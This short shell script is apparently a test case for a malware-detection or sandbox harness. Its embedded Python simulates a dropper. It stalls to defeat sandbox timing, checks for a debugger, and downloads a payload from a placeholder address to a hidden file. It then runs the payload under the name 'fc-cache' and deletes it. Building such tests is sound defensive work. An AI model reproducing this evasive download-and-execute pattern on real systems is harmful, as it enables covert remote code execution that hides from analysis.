#!/bin/sh
. /opt/case/case.sh

python3 -c '
import os, subprocess, time, urllib.request
start = time.monotonic()
for _ in range(4): time.sleep(2)
assert time.monotonic() - start > 7
assert "TracerPid:\t0" in open("/proc/self/status").read()
body = urllib.request.urlopen("http://203.0.113.10:8080/programs/marker").read()
open("/var/cache/.fc", "wb").write(body); os.chmod("/var/cache/.fc", 0o700)
subprocess.run(["fc-cache"], executable="/var/cache/.fc"); os.unlink("/var/cache/.fc")'
test -e /tmp/reached
took_place
